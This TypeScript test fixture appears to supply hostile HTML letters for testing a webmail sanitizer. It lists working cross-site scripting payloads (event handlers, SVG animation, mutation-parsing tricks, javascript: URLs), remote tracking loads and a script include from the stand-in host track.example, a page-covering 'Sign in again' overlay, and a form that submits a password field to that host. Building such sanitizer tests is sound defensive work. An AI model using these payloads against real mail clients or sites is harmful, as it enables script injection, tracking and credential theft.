/** One letter for each class of what broke webmail before (docs/security.md). Code that runs sets `pwned`; everything that loads names track.example. */
export const hostileLetters: readonly { readonly name: string; readonly html: string }[] = [
  {
    name: 'script',
    html: '<script>parent.pwned=pwned=1;alert(1)</script><script src="https://track.example/x.js"></script>',
  },
  {
    name: 'event handlers',
    html: '<img src=x onerror="parent.pwned=1;alert(1)"><details open ontoggle="parent.pwned=1">x</details><p style="animation:a 1s" onanimationstart="parent.pwned=1">x</p><style>@keyframes a{}</style>',
  },
  {
    name: 'svg animation',
    html: '<svg><a><animate attributeName=href values="javascript:parent.pwned=1"/><text y=20>x</text></a><animate onbegin="parent.pwned=1" attributeName=x dur=1s /></svg>',
  },
  {
    name: 'svg pictures',
    html: '<svg><image href="https://track.example/x.png"/><filter id=f><feImage href="https://track.example/y.png"/></filter><use href="https://track.example/z.svg#x"/><rect filter="url(#f)" width=9 height=9 /></svg>',
  },
  {
    name: 'mutation',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.pwned=1&gt;">',
  },
  {
    name: 'mutation with a form',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=parent.pwned=1>',
  },
  { name: 'noscript', html: '<noscript><p title="</noscript><img src=x onerror=parent.pwned=1>"></noscript>' },
  {
    name: 'frames',
    html: '<iframe srcdoc="<script>top.pwned=1</script>"></iframe><iframe src="https://track.example/f"></iframe><iframe src="javascript:top.pwned=1"></iframe><object data="https://track.example/o"></object><embed src="https://track.example/e">',
  },
  { name: 'refresh', html: '<meta http-equiv="refresh" content="0;url=https://track.example/">' },
  { name: 'base', html: '<base href="https://track.example/"><img src="x.png"><a href="y">x</a>' },
  {
    name: 'remote pictures',
    html: '<img src="https://track.example/1"><img srcset="https://track.example/2 1x"><picture><source srcset="https://track.example/3"><img></picture><video poster="https://track.example/4"></video><table background="https://track.example/5"><tr><td>x</td></tr></table><input type=image src="https://track.example/6">',
  },
  {
    name: 'remote pictures by style',
    html: '<style>p{background:url(https://track.example/1)}@import "https://track.example/2";@font-face{font-family:x;src:url(https://track.example/3)}b{font-family:x}</style><p>x</p><b>x</b><div style="background:url(https://track.example/4)">x</div><div style="--x:url(https://track.example/5);background:var(--x)">x</div><div style="background:u\\72l(https://track.example/6">x</div><ul style="list-style-image:url(https://track.example/7)"><li>x</ul>',
  },
  {
    name: 'preloading',
    html: '<link rel=stylesheet href="https://track.example/1"><link rel=preload as=image href="https://track.example/2"><link rel=dns-prefetch href="//track.example"><link rel=prerender href="https://track.example/3">',
  },
  {
    name: 'a form that sends itself',
    html: '<form action="https://track.example/" id=f><input name=password autofocus onfocus="this.form.submit();parent.pwned=1"></form><button form=f formaction="javascript:parent.pwned=1">x</button>',
  },
  {
    name: 'covering the page',
    html: '<div style="position:fixed;inset:0;z-index:2147483647;background:red">Sign in again</div><style>:root,body{position:fixed!important;inset:0!important;height:100000vh!important}</style>',
  },
  {
    name: 'clobbering',
    html: '<img name=body><img name=documentElement><form id=document><input name=implementation></form><a id=defaultView href="https://track.example">x</a>',
  },
  {
    name: 'templates and components',
    html: '<template shadowrootmode=open><img src=x onerror=parent.pwned=1></template><p is=x-y>x</p><dialog open><img src=x onerror=parent.pwned=1></dialog>',
  },
  { name: 'depth', html: `${'<div>'.repeat(3_000)}<img src=x onerror=parent.pwned=1>` },
  {
    name: 'data of another kind',
    html: '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22top.pwned=1%22/>"><iframe src="data:text/html,<script>top.pwned=1</script>"></iframe><img src="cid:svg@mail">',
  },
];
